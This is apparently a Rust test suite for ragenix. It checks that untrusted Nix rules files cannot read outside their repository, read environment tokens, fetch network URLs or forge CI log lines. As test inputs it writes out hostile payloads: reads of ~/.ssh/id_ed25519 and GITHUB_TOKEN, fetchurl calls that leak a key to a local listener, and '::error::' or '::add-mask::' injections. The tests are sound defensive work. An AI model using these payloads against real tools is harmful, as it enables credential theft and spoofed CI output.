//! A rules file written by someone else (issue 9): what it reads, what it fetches and where its
//! names point stay inside its repository, unless the user passes `--impure`.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::PathBuf;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use assert_cmd::Command;
use tempfile::TempDir;

use super::{bin, Project};
use crate::util::require_program;

/// Marks every value planted outside the repository; no output may ever contain it.
const SECRET: &str = "TOPSECRET";

/// `base/repo` is a repository (`.git`) holding `secrets.nix`; `base/outside` and
/// `base/home/.ssh` hold files an attacker would like to read.
struct Untrusted {
    base: TempDir,
}

impl Untrusted {
    fn new() -> Untrusted {
        let base = tempfile::tempdir().unwrap();
        let p = |rel: &str| base.path().join(rel);
        fs::create_dir_all(p("repo/.git")).unwrap();
        fs::create_dir_all(p("outside")).unwrap();
        fs::create_dir_all(p("home/.ssh")).unwrap();
        fs::write(p("outside/secret.txt"), format!("{SECRET}-outside\n")).unwrap();
        fs::write(p("outside/secret.nix"), format!("\"{SECRET}-import\"\n")).unwrap();
        fs::write(p(&format!("outside/{SECRET}-name")), "").unwrap();
        fs::write(p("home/.ssh/id_ed25519"), format!("{SECRET}-home\n")).unwrap();
        // No newline: a URL built from it must be one a fetcher would really request.
        fs::write(p("repo/key"), "inside-key").unwrap();
        Untrusted { base }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.base.path().join(rel)
    }

    /// The absolute path of `rel`, as Nix source text.
    fn abs(&self, rel: &str) -> String {
        self.path(rel).display().to_string()
    }

    /// A rules file whose only rule's `publicKeys` is `keys`, on line 2.
    fn rules(&self, keys: &str) {
        fs::write(
            self.path("repo/secrets.nix"),
            format!("{{\n  \"a.age\".publicKeys = {keys};\n}}\n"),
        )
        .unwrap();
    }

    fn cmd(&self) -> Command {
        let mut c = Command::new(bin());
        c.current_dir(self.path("repo"))
            .env_remove("RULES")
            .env_remove("RAGENIX_IMPURE")
            .env("HOME", self.path("home"))
            .timeout(Duration::from_secs(120));
        c
    }
}

fn output_text(out: &std::process::Output) -> (String, String) {
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn reads_outside_the_repository_fail_located_and_reveal_nothing() {
    let u = Untrusted::new();
    fs::create_dir(u.path("repo/sub")).unwrap();
    std::os::unix::fs::symlink(u.path("outside/secret.txt"), u.path("repo/sub/link")).unwrap();
    let cases = [
        format!("[ (builtins.readFile {}) ]", u.abs("outside/secret.txt")),
        "[ (builtins.readFile ../outside/secret.txt) ]".to_owned(),
        "[ (builtins.readFile ~/.ssh/id_ed25519) ]".to_owned(),
        "[ (builtins.readFile ./sub/link) ]".to_owned(),
        format!("[ (import {}) ]", u.abs("outside/secret.nix")),
        "[ (import ../outside/secret.nix) ]".to_owned(),
        "builtins.attrNames (builtins.readDir ../outside)".to_owned(),
        "[ (if builtins.pathExists ../outside/secret.txt then \"yes\" else \"no\") ]".to_owned(),
        format!("[ {} ]", u.abs("outside/secret.txt")),
        "[ \"${~/.ssh/id_ed25519}\" ]".to_owned(),
    ];
    for keys in &cases {
        u.rules(keys);
        for action in ["--check", "--dump-rules"] {
            let out = u.cmd().arg(action).output().unwrap();
            let (stdout, stderr) = output_text(&out);
            assert_eq!(out.status.code(), Some(1), "{keys} {action}: {stderr}");
            assert!(
                stderr.contains("secrets.nix:2:"),
                "{keys} {action}: not located: {stderr}"
            );
            assert!(
                stderr.contains("outside the rules root") && stderr.contains("--impure"),
                "{keys} {action}: no reason or way out: {stderr}"
            );
            assert!(
                !stdout.contains(SECRET) && !stderr.contains(SECRET),
                "{keys} {action} revealed an outside file:\n{stdout}\n{stderr}"
            );
        }
    }
}

#[test]
fn environment_variables_read_as_empty() {
    let u = Untrusted::new();
    u.rules("[ (builtins.getEnv \"GITHUB_TOKEN\") \"age1x\" ]");
    for action in ["--check", "--dump-rules"] {
        let out = u
            .cmd()
            .arg(action)
            .env("GITHUB_TOKEN", format!("ghp_{SECRET}"))
            .output()
            .unwrap();
        let (stdout, stderr) = output_text(&out);
        assert!(
            !stdout.contains(SECRET) && !stderr.contains(SECRET),
            "{action} revealed the environment:\n{stdout}\n{stderr}"
        );
        if action == "--dump-rules" {
            assert!(out.status.success(), "{stderr}");
            let json: serde_json::Value = serde_json::from_str(&stdout).unwrap();
            assert_eq!(json["a.age"]["publicKeys"][0], "");
        }
    }
}

#[test]
fn impure_restores_reading_outside_and_the_environment() {
    let u = Untrusted::new();
    u.rules("[ (builtins.readFile ../outside/secret.txt) (builtins.readFile ~/.ssh/id_ed25519) (builtins.getEnv \"TOKEN\") ]");
    let wanted = serde_json::json!([
        format!("{SECRET}-outside\n"),
        format!("{SECRET}-home\n"),
        "tok"
    ]);
    let by_flag = u
        .cmd()
        .args(["--impure", "--dump-rules"])
        .env("TOKEN", "tok")
        .output()
        .unwrap();
    let by_env = u
        .cmd()
        .arg("--dump-rules")
        .env("TOKEN", "tok")
        .env("RAGENIX_IMPURE", "1")
        .output()
        .unwrap();
    for out in [by_flag, by_env] {
        let (stdout, stderr) = output_text(&out);
        assert!(out.status.success(), "{stderr}");
        let json: serde_json::Value = serde_json::from_str(&stdout).unwrap();
        assert_eq!(json["a.age"]["publicKeys"], wanted);
    }
    // `RAGENIX_IMPURE=0` does not lift it.
    u.cmd()
        .arg("--dump-rules")
        .env("RAGENIX_IMPURE", "0")
        .assert()
        .code(1);
}

#[test]
fn imports_inside_the_repository_above_the_rules_file_work() {
    let u = Untrusted::new();
    fs::create_dir(u.path("repo/secrets")).unwrap();
    fs::write(u.path("repo/keys.nix"), "[ \"age1x\" ]").unwrap();
    fs::write(
        u.path("repo/secrets/secrets.nix"),
        "{ \"a.age\".publicKeys = import ../keys.nix ++ [ (builtins.readFile ../key) ]; }",
    )
    .unwrap();
    let out = u
        .cmd()
        .args(["--rules", "secrets/secrets.nix", "--dump-rules"])
        .output()
        .unwrap();
    let (stdout, stderr) = output_text(&out);
    assert!(out.status.success(), "{stderr}");
    assert!(stdout.contains("inside-key"), "{stdout}");
}

/// An HTTP server on an ephemeral local port that answers every request with 404 and counts
/// the connections it accepted.
struct Listener {
    addr: std::net::SocketAddr,
    contacts: Arc<AtomicUsize>,
}

impl Listener {
    fn new() -> Listener {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = l.local_addr().unwrap();
        let contacts = Arc::new(AtomicUsize::new(0));
        let counter = contacts.clone();
        std::thread::spawn(move || {
            for conn in l.incoming() {
                counter.fetch_add(1, Ordering::SeqCst);
                if let Ok(mut c) = conn {
                    let _ = c.set_read_timeout(Some(Duration::from_secs(2)));
                    let _ = c.read(&mut [0u8; 4096]);
                    let _ = c.write_all(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n");
                }
            }
        });
        Listener { addr, contacts }
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}/{path}", self.addr)
    }

    fn contacts(&self) -> usize {
        self.contacts.load(Ordering::SeqCst)
    }
}

#[test]
fn the_nix_fallback_contacts_no_one_and_reads_nothing_outside() {
    let test = "the_nix_fallback_contacts_no_one_and_reads_nothing_outside";
    if !require_program(test, "nix-instantiate") {
        return;
    }
    let u = Untrusted::new();
    let listener = Listener::new();
    let leak = listener.url("k?${builtins.readFile ./key}");
    let cases = [
        format!("[ (builtins.readFile (builtins.fetchurl \"{leak}\")) ]"),
        format!("[ (builtins.readFile (builtins.fetchTarball \"{leak}\")) ]"),
        format!("[ (builtins.fetchGit {{ url = \"{leak}\"; }}).outPath ]"),
        format!("[ (import (builtins.fetchurl {{ url = \"{leak}\"; }})) ]"),
        // Unsupported first, so that our evaluator hands the file over before the read.
        "[ builtins.currentSystem (builtins.readFile ../outside/secret.txt) ]".to_owned(),
        "[ builtins.currentSystem (builtins.readFile ~/.ssh/id_ed25519) ]".to_owned(),
        format!(
            "[ builtins.currentSystem (import {}) ]",
            u.abs("outside/secret.nix")
        ),
        "[ builtins.currentSystem (builtins.getEnv \"GITHUB_TOKEN\") ]".to_owned(),
    ];
    for keys in &cases {
        u.rules(keys);
        for action in ["--check", "--dump-rules"] {
            let out = u
                .cmd()
                .arg(action)
                .env("GITHUB_TOKEN", format!("ghp_{SECRET}"))
                .output()
                .unwrap();
            let (stdout, stderr) = output_text(&out);
            assert!(
                !stdout.contains(SECRET) && !stderr.contains(SECRET),
                "{keys} {action} revealed:\n{stdout}\n{stderr}"
            );
            let announced: Vec<&str> = stderr
                .lines()
                .filter(|l| l.contains("with nix-instantiate, restricted to"))
                .collect();
            assert_eq!(announced.len(), 1, "{keys} {action}: {stderr}");
            assert_eq!(
                listener.contacts(),
                0,
                "{keys} {action}: the listener was contacted"
            );
        }
    }
}

#[test]
fn impure_lets_the_nix_fallback_fetch_as_before() {
    // The control for the test above: the same rules file does reach the listener when the
    // user lifts confinement, so "no contact" there is the policy, not a broken URL.
    let test = "impure_lets_the_nix_fallback_fetch_as_before";
    if !require_program(test, "nix-instantiate") {
        return;
    }
    let u = Untrusted::new();
    let listener = Listener::new();
    let leak = listener.url("k?${builtins.readFile ./key}");
    u.rules(&format!(
        "[ (builtins.readFile (builtins.fetchurl \"{leak}\")) ]"
    ));
    let out = u.cmd().args(["--impure", "--dump-rules"]).output().unwrap();
    let (_, stderr) = output_text(&out);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("(impure)"), "{stderr}");
    assert!(listener.contacts() > 0, "{stderr}");
}

#[test]
fn the_nix_fallback_still_evaluates_what_we_do_not_support_inside_the_repository() {
    let test = "the_nix_fallback_still_evaluates_what_we_do_not_support_inside_the_repository";
    if !require_program(test, "nix-instantiate") {
        return;
    }
    let u = Untrusted::new();
    fs::write(u.path("repo/keys.nix"), "[ \"age1x\" ]").unwrap();
    u.rules("import ./keys.nix ++ [ (builtins.hashString \"md5\" (builtins.readFile ./key)) ]");
    let out = u.cmd().arg("--dump-rules").output().unwrap();
    let (stdout, stderr) = output_text(&out);
    assert!(out.status.success(), "{stderr}");
    let json: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(json["a.age"]["publicKeys"][0], "age1x");
    assert_eq!(
        stderr.lines().count(),
        1,
        "one line announces the fallback: {stderr}"
    );
    assert!(stderr.contains("builtins.hashString \"md5\""), "{stderr}");
}

/// A project whose `repo/` is the repository and whose `prod.age`, beside it, is a secret of
/// another repository that the rules must not be able to name.
fn project_with_outside_secret() -> (Project, Vec<u8>) {
    let p = Project::new();
    p.rules(&["prod.age"]);
    p.create("prod.age", b"production password");
    fs::create_dir_all(p.path("repo/.git")).unwrap();
    let before = fs::read(p.path("prod.age")).unwrap();
    (p, before)
}

fn escaping_rules(p: &Project, name: &str, extra: &str) {
    fs::write(
        p.path("repo/secrets.nix"),
        format!(
            "{{\n  {name:?} = {{ publicKeys = [ {:?} ]; {extra} }};\n}}\n",
            p.public
        ),
    )
    .unwrap();
}

#[test]
fn names_escaping_the_repository_are_refused_for_every_action() {
    let (p, before) = project_with_outside_secret();
    let abs = p.path("prod.age").display().to_string();
    std::os::unix::fs::symlink(p.dir.path(), p.path("repo/up")).unwrap();
    for name in [
        "../prod.age",
        abs.as_str(),
        "up/prod.age",
        "x/../../prod.age",
    ] {
        for (extra, args) in [
            ("", vec!["-i", "key.txt", "-r"]),
            ("generator = \"hex:8\";", vec!["--generate", "--force"]),
            ("", vec!["--check"]),
            ("", vec!["-i", "key.txt", "-r", "--stale"]),
            (
                "",
                vec!["-i", "key.txt", "--editor", "-", "-e", "repo/new.age"],
            ),
        ] {
            escaping_rules(&p, name, extra);
            let out = p
                .cmd()
                .args(["--rules", "repo/secrets.nix"])
                .args(&args)
                .output()
                .unwrap();
            let (_, stderr) = output_text(&out);
            assert_eq!(out.status.code(), Some(1), "{name} {args:?}: {stderr}");
            assert!(
                stderr.contains(&format!("secrets.nix:2:3: secret {name:?}:"))
                    && stderr.contains("outside the rules root"),
                "{name} {args:?}: {stderr}"
            );
            assert_eq!(
                fs::read(p.path("prod.age")).unwrap(),
                before,
                "{name} {args:?} changed a file outside the repository"
            );
        }
    }
    // `-d` of a file outside the repository is the user's explicit choice.
    p.cmd()
        .args([
            "--rules",
            "repo/secrets.nix",
            "-i",
            "key.txt",
            "-d",
            "prod.age",
        ])
        .assert()
        .success()
        .stdout("production password");
}

#[test]
fn integer_overflow_is_an_evaluation_error() {
    let u = Untrusted::new();
    u.rules("[ (toString (9223372036854775807 + 1)) ]");
    let out = u.cmd().arg("--dump-rules").output().unwrap();
    let (_, stderr) = output_text(&out);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr.contains("secrets.nix:2:")
            && stderr.contains("integer overflow in adding 9223372036854775807 + 1"),
        "{stderr}"
    );
}

#[test]
fn the_nix_fallback_is_refused_when_the_root_cannot_be_expressed_to_nix() {
    let test = "the_nix_fallback_is_refused_when_the_root_cannot_be_expressed_to_nix";
    if !require_program(test, "nix-instantiate") {
        return;
    }
    // `-I a=b` would mean "search path entry `a` is `b`", not "allow `a=b`".
    let base = tempfile::tempdir().unwrap();
    let repo = base.path().join("odd=name");
    fs::create_dir_all(repo.join(".git")).unwrap();
    fs::write(
        repo.join("secrets.nix"),
        "{\n  \"a.age\".publicKeys = [ builtins.currentSystem ];\n}\n",
    )
    .unwrap();
    let out = Command::new(bin())
        .current_dir(&repo)
        .env_remove("RULES")
        .env_remove("RAGENIX_IMPURE")
        .arg("--dump-rules")
        .output()
        .unwrap();
    let (stdout, stderr) = output_text(&out);
    assert_eq!(out.status.code(), Some(1), "{stdout}{stderr}");
    assert!(
        stderr.contains("secrets.nix:2:")
            && stderr.contains("cannot hand this file to nix-instantiate confined")
            && stderr.contains("--impure"),
        "{stderr}"
    );
}

#[test]
fn a_rules_file_that_is_a_symlink_leading_outside_is_not_read() {
    // The pull request replaces `secrets.nix` itself with a link: its target's first lines
    // would otherwise come back in the syntax error's source excerpt.
    let u = Untrusted::new();
    fs::write(
        u.path("outside/environ"),
        format!("GITHUB_TOKEN=ghp_{SECRET}\nmore\n"),
    )
    .unwrap();
    std::os::unix::fs::symlink(u.path("outside/environ"), u.path("repo/secrets.nix")).unwrap();
    for action in ["--check", "--dump-rules"] {
        let out = u.cmd().arg(action).output().unwrap();
        let (stdout, stderr) = output_text(&out);
        assert_eq!(out.status.code(), Some(1), "{action}: {stderr}");
        assert!(
            stderr.contains("outside the rules root") && stderr.contains("--impure"),
            "{action}: no reason or way out: {stderr}"
        );
        assert!(
            !stdout.contains(SECRET) && !stderr.contains(SECRET),
            "{action} revealed the link's target:\n{stdout}\n{stderr}"
        );
    }
    // A link to a rules file inside the repository is still followed, and `--impure` reads
    // the outside one as before (its syntax error is then the user's own business).
    fs::remove_file(u.path("repo/secrets.nix")).unwrap();
    fs::create_dir(u.path("repo/nix")).unwrap();
    fs::write(
        u.path("repo/nix/secrets.nix"),
        "{ \"a.age\".publicKeys = [ \"inside\" ]; }\n",
    )
    .unwrap();
    std::os::unix::fs::symlink("nix/secrets.nix", u.path("repo/secrets.nix")).unwrap();
    let out = u.cmd().arg("--dump-rules").output().unwrap();
    let (stdout, stderr) = output_text(&out);
    assert!(out.status.success(), "{stderr}");
    assert!(stdout.contains("\"inside\""), "{stdout}");
    fs::remove_file(u.path("repo/secrets.nix")).unwrap();
    std::os::unix::fs::symlink(u.path("outside/environ"), u.path("repo/secrets.nix")).unwrap();
    let out = u.cmd().args(["--impure", "--dump-rules"]).output().unwrap();
    let (_, stderr) = output_text(&out);
    assert!(stderr.contains("syntax error"), "{stderr}");
}

#[test]
fn names_with_control_characters_cannot_forge_lines_in_ci_logs() {
    // A newline in a rule name starts a line of the attacker's choosing in `--check`'s output,
    // which CI reads as a workflow command (`::error::`, `::add-mask::`); an escape sequence
    // rewrites what a terminal shows.
    let u = Untrusted::new();
    for name in [
        "a\n::error::FORGED\nb.age",
        "a\r::error::FORGED.age",
        "a\u{1b}[2K::error::FORGED.age",
    ] {
        fs::write(
            u.path("repo/secrets.nix"),
            // Raw in the Nix string: Nix has no escape for ESC.
            format!("{{\n  \"{name}\".publicKeys = [ ];\n}}\n"),
        )
        .unwrap();
        for action in ["--check", "--dump-rules"] {
            let out = u.cmd().arg(action).output().unwrap();
            let (stdout, stderr) = output_text(&out);
            if action == "--dump-rules" {
                // JSON escapes it: the evaluated value is shown as it is.
                assert!(out.status.success(), "{name:?}: {stderr}");
                continue;
            }
            assert_eq!(out.status.code(), Some(1), "{name:?}: {stderr}");
            assert!(
                stderr.contains("secrets.nix:2:3:") && stderr.contains("control character"),
                "{name:?}: not refused, located: {stderr}"
            );
            for text in [&stdout, &stderr] {
                assert!(
                    !text.contains('\u{1b}') && !text.contains('\r'),
                    "{name:?}: {text:?}"
                );
                assert!(
                    text.lines().all(|l| !l.starts_with("::")),
                    "{name:?} forged a line: {text}"
                );
            }
        }
    }
}

#[test]
fn file_names_in_the_repository_cannot_forge_lines_in_ci_logs() {
    // Git stores any byte but `/` and NUL in a file name: an orphan `.age` file, or a
    // generator string, committed with a newline or ESC in it is shown escaped by `--check`.
    let u = Untrusted::new();
    fs::write(
        u.path("repo/secrets.nix"),
        "{\n  \"g.age\" = { publicKeys = [ ]; generator = \"hex:8\n::error::FORGED\"; };\n}\n",
    )
    .unwrap();
    for name in ["a\n::error::FORGED\nb.age", "c\u{1b}[2K::error::FORGED.age"] {
        fs::write(u.path("repo").join(name), "").unwrap();
    }
    let out = u.cmd().arg("--check").output().unwrap();
    let (stdout, stderr) = output_text(&out);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stdout.contains("a\\n::error::FORGED\\nb.age: no rule names this file"),
        "{stdout}"
    );
    assert!(
        stdout.contains("c\\u{1b}[2K::error::FORGED.age"),
        "{stdout}"
    );
    for text in [&stdout, &stderr] {
        assert!(!text.contains('\u{1b}'), "{text:?}");
        assert!(
            text.lines().all(|l| !l.starts_with("::")),
            "a line was forged: {text}"
        );
    }
}

/// Whether a line of ragenix's output is one a CI runner would read as a workflow command
/// (`::error::`, `::add-mask::`, or the older `##[error]`); the runner trims leading spaces.
fn is_workflow_command(line: &str) -> bool {
    let line = line.trim_start();
    line.starts_with("::") || line.starts_with("##[")
}

/// Asserts that none of `out`'s lines starts with the author's text and that no control
/// character but newline reached it.
fn assert_no_forged_line(what: &str, out: &std::process::Output) {
    let (stdout, stderr) = output_text(out);
    for text in [&stdout, &stderr] {
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "{what}: a control character reached the output: {text:?}"
        );
        assert!(
            !text.lines().any(is_workflow_command),
            "{what}: the rules author wrote a line: {text}"
        );
    }
}

#[test]
fn messages_the_rules_author_writes_cannot_forge_lines_in_ci_logs() {
    // `throw`, `abort`, a failed `assert`, `trace` and a bad recipient all print text of the
    // rules author's choosing; a newline in it would start a CI log line (`::error::` is a
    // command there), an ESC (raw in the file: Nix has no escape for it) rewrite the terminal.
    // The source snippet under an error shows the offending line, ESC included.
    let forged = "x\\n::error file=a::FORGED\\n##[error]FORGED\u{1b}[2K\r::add-mask::y";
    let u = Untrusted::new();
    for (what, keys) in [
        ("throw", format!("throw \"{forged}\"")),
        ("abort", format!("abort \"{forged}\"")),
        ("assert", format!("assert \"{forged}\" == \"\"; [ ]")),
        (
            "assert, multi-line",
            "assert ''\n::error::FORGED\n'' == \"\"; [ ]".into(),
        ),
        ("trace", format!("builtins.trace \"{forged}\" [ ]")),
        ("recipient", format!("[ \"{forged}\" ]")),
        ("import", "import ./\"a\n::error::FORGED.nix\"".into()),
    ] {
        u.rules(&keys);
        for action in ["--check", "--dump-rules", "-e"] {
            let mut cmd = u.cmd();
            if action == "-e" {
                // Encrypting reads the recipients: the one action that rejects a bad one.
                cmd.args(["-e", "a.age"]).env("EDITOR", "true");
            } else {
                cmd.arg(action);
            }
            let out = cmd.output().unwrap();
            let (stdout, stderr) = output_text(&out);
            match (what, action) {
                ("trace", _) | ("recipient", "--dump-rules") => {}
                ("recipient", "--check") => {
                    assert_eq!(out.status.code(), Some(1), "{stdout}");
                    assert!(stdout.contains("invalid recipient"), "{stdout}");
                }
                ("recipient", "-e") => {
                    assert_eq!(out.status.code(), Some(1), "{stderr}");
                    assert!(
                        stderr.contains("invalid recipient \"x\\n::error"),
                        "{stderr}"
                    );
                }
                _ => {
                    assert_eq!(out.status.code(), Some(1), "{what} {action}: {stderr}");
                    assert!(
                        stderr.contains("secrets.nix:2:"),
                        "{what}: unlocated: {stderr}"
                    );
                }
            }
            assert_no_forged_line(&format!("{what} {action}"), &out);
            if what == "throw" {
                // Shown escaped, not dropped: the author's message is still readable.
                assert!(
                    stderr.contains("x\\n::error file=a::FORGED\\n##[error]FORGED\\u{1b}[2K"),
                    "{stderr}"
                );
            }
        }
    }
}

#[test]
fn the_nix_fallback_cannot_forge_lines_in_ci_logs() {
    let test = "the_nix_fallback_cannot_forge_lines_in_ci_logs";
    if !require_program(test, "nix-instantiate") {
        return;
    }
    // `hashString "md5"` sends the file to nix-instantiate, whose error echoes the thrown text
    // (and whose traces print it) with its newlines.
    let u = Untrusted::new();
    let forged = "x\\n::error file=a::FORGED\u{1b}[2K\r::add-mask::y";
    for (what, tail) in [
        ("throw", format!("throw \"{forged}\"")),
        (
            "trace",
            format!("builtins.trace \"{forged}\" (throw \"stop\")"),
        ),
    ] {
        u.rules(&format!(
            "builtins.seq (builtins.hashString \"md5\" \"k\") ({tail})"
        ));
        for action in ["--check", "--dump-rules"] {
            let out = u.cmd().arg(action).output().unwrap();
            let (_, stderr) = output_text(&out);
            assert_eq!(out.status.code(), Some(1), "{what} {action}: {stderr}");
            assert!(stderr.contains("nix-instantiate failed"), "{stderr}");
            assert!(stderr.contains("::error file=a::FORGED"), "{stderr}");
            assert_no_forged_line(&format!("fallback {what} {action}"), &out);
        }
    }
}
